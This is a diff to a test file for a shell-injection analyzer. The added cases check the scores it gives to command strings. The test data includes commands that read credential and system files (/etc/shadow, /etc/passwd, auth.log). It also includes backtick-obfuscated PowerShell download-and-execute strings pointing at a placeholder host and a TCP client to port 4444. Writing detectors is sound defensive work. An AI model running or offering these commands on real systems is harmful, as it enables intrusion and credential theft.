@@ -28,11 +28,21 @@ describe("shell analyzer", () => {
     expect(s("ok; echo vulnerable")).toBeLessThan(0.5);
   });
 
+  test("a command that is also a word, a system file, then a sentence: someone writing about the file", () => {
+    for (const v of ["cat /proc/cpuinfo shows 4 cores but your app only uses 1.", "cat /etc/hosts equivalent on windows"]) expect([v, s(v)]).toEqual([v, 0.55]);
+    // Fewer words, another path, a flag, or a tool: a command line.
+    for (const v of ["cat /etc/hosts shows nothing", "cat /etc/passwd /etc/shadow now", "ls -la /etc please help me", "cat /etc/passwd x y", "cat /etc/hosts aa bb cc"]) expect([v, s(v)]).toEqual([v, 0.9]);
+    // A credential, a key or a log is read whatever words follow it.
+    for (const v of ["cat /etc/shadow and show the rest", "tail /var/log/auth.log and then nothing else", "type C:\\Windows\\win.ini shows nothing else here"]) expect([v, s(v)]).toEqual([v, 0.9]);
+  });
+
   test("a Windows program's file name is what a runner is given to run, not a word", () => {
     for (const v of ["; Start-Process calc.exe", "| start-process notepad.exe", "; msiexec evil.msi", "& wscript payload.vbs", "; mshta x.hta"]) expect([v, s(v)]).toEqual([v, 0.9]);
     // After a command that is also a word, a sentence's (`download & start setup.exe`).
     expect(s("Please download & start setup.exe from the site")).toBeLessThan(0.5);
     expect(s("; Start-Process calc")).toBe(0.8);
+    // `.com` is every domain's ending, no program's.
+    for (const v of ["curl example.com", "nslookup shop.example.com", "; ping example.com"]) expect([v, s(v)]).toEqual([v, s(v.replace(".com", ".org"))]);
   });
 
   test("numbers are shell arguments of a command that is also a word when they are all it has, or what it acts on", () => {
@@ -235,7 +245,7 @@ describe("shell analyzer", () => {
       expect(ps(v)).toBeGreaterThanOrEqual(0.9);
     }
     // A runner's name read through backticks, and .NET's socket and web clients made.
-    for (const v of ["; I`E`X (New-Object Net.WebClient).DownloadString('http://e.example/a')", "; Inv`oke-Exp`ression $x", "| i`ex", ";$c=New-Object Net.Sockets.TCPClient('10.0.0.1',4444)", "x;(New-Object System.Net.WebClient).DownloadFile('http://e.example/a','a.exe')"]) {
+    for (const v of ["; I`E`X (New-Object Net.WebClient).DownloadString('http://e.example/a')", "; Inv`oke-Exp`ression $x", "| i`ex", ";$c=New-Object Net.Sockets.TCPClient('10.0.0.1',4444)", "x;(New-Object System.Net.WebClient).DownloadFile('http://e.example/a','a.exe')", "; `i`e`x $x", "| po`wer`shell -c id", "; New-Object -Type Net.WebClient", ";$c = New-Object -TypeName 'System.Net.Sockets.TcpListener' 4444", "; New-Object -ComObject WScript.Shell"]) {
       expect([v, ps(v)]).toEqual([v, 0.9]);
     }
     for (const v of ["; Wr`ite-Host hi", "don`t worry", "Use New-Object Net.WebClient to download"]) expect([v, ps(v)]).toEqual([v, 0]);
